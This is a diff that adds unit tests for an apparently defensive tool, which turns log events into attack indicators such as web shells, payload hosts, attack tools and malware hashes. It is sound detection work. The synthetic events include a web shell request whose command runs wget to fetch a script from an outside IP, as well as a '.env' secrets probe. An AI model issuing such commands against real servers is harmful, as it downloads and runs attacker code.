@@ -82,3 +82,49 @@ describe('indicator roles', () => {
     expect(got).toEqual(expect.arrayContaining(['url:http://update-check.top/a.ps1:payload_url', 'domain:update-check.top:payload_host', 'process:powershell.exe:suspicious_process']));
   });
 });
+
+describe('indicators of attacks on our own web server', () => {
+  const web = (i: number, url: string, status: number): ReturnType<typeof event> => event(i, `2026-07-21T10:1${i}:00Z`, {
+    format: 'web_access', action: 'http_request', outcome: status >= 400 ? 'failure' : 'success', logsource: { category: 'webserver' },
+    fields: { 'sc-status': status }, entities: { srcIp: '45.148.10.81', url },
+  });
+
+  it('reports the web shell page once, the staging server named in a command, and no refused probe', () => {
+    const events = [web(0, '/uploads/a.php?cmd=id', 200), web(1, '/uploads/a.php?cmd=wget%20http://185.234.216.40/l.sh', 200), web(2, '/.env', 404)];
+    const lookup = lookupOf(events);
+    const shell = makeSignal('detection', 's', rule('high', ['attack.persistence', 'attack.t1505.003']), [0, 1], lookup, catalog);
+    const probe = makeSignal('detection', 'p', rule('medium', ['attack.initial-access', 'attack.t1190']), [2], lookup, catalog);
+    const roles = Object.fromEntries(buildIndicators([shell, probe], lookup, catalog).map((i) => [i.value, i.role]));
+    expect(roles['/uploads/a.php']).toBe('webshell');
+    expect(roles['185.234.216.40']).toBe('payload_host');
+    expect(roles['http://185.234.216.40/l.sh']).toBe('payload_url');
+    expect(roles['45.148.10.81']).toBe('attacker');
+    expect(Object.keys(roles).filter((v) => v.startsWith('/uploads/a.php?') || v === '/.env')).toEqual([]);
+  });
+});
+
+describe('indicators from Windows and endpoint events', () => {
+  it('calls a service someone installed their tool or foothold, never a targeted service, and never names LocalSystem', () => {
+    const install = event(0, '2026-09-03T22:41:08Z', { format: 'windows', action: 'service_install', fields: { EventID: 7045 }, entities: { user: 'LocalSystem', service: 'PSEXESVC', host: 'FS-02' } });
+    const lookup = lookupOf([install]);
+    const s = makeSignal('detection', 's', rule('medium', ['attack.execution', 'attack.t1569.002']), [0], lookup, catalog);
+    const found = buildIndicators([s], lookup, catalog);
+    expect(found.find((i) => i.value === 'PSEXESVC')?.role).toBe('attack_tool');
+    expect(found.find((i) => i.value === 'LocalSystem')).toBeUndefined();
+  });
+
+  it('gives the hash of a dropped executable to the file as malware, not to the process that wrote it', () => {
+    const write = event(0, '2026-04-22T16:45:25Z', { action: 'file_create', entities: { process: 'powershell.exe', file: 'C:\\Users\\Public\\upd.exe', hashes: ['9f2b5c0e4d5a8e1f3b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2'], host: 'WS-117' } });
+    const lookup = lookupOf([write]);
+    const s = makeSignal('detection', 's', rule('high', ['attack.command-and-control', 'attack.t1105']), [0], lookup, catalog);
+    expect(buildIndicators([s], lookup, catalog).find((i) => i.type === 'sha256')?.role).toBe('malware');
+  });
+
+  it('never makes an OS binary the attacker\'s foothold', () => {
+    const net = event(0, '2026-02-09T23:14:00Z', { action: 'process_create', entities: { process: 'C:\\Windows\\System32\\net.exe', user: 'backup', host: 'RDS-01' } });
+    const lookup = lookupOf([net]);
+    const s = makeSignal('detection', 's', rule('high', ['attack.persistence', 'attack.t1136.001']), [0], lookup, catalog);
+    expect(buildIndicators([s], lookup, catalog).find((i) => i.value === 'net.exe')?.role).toBe('attack_tool');
+  });
+});
+
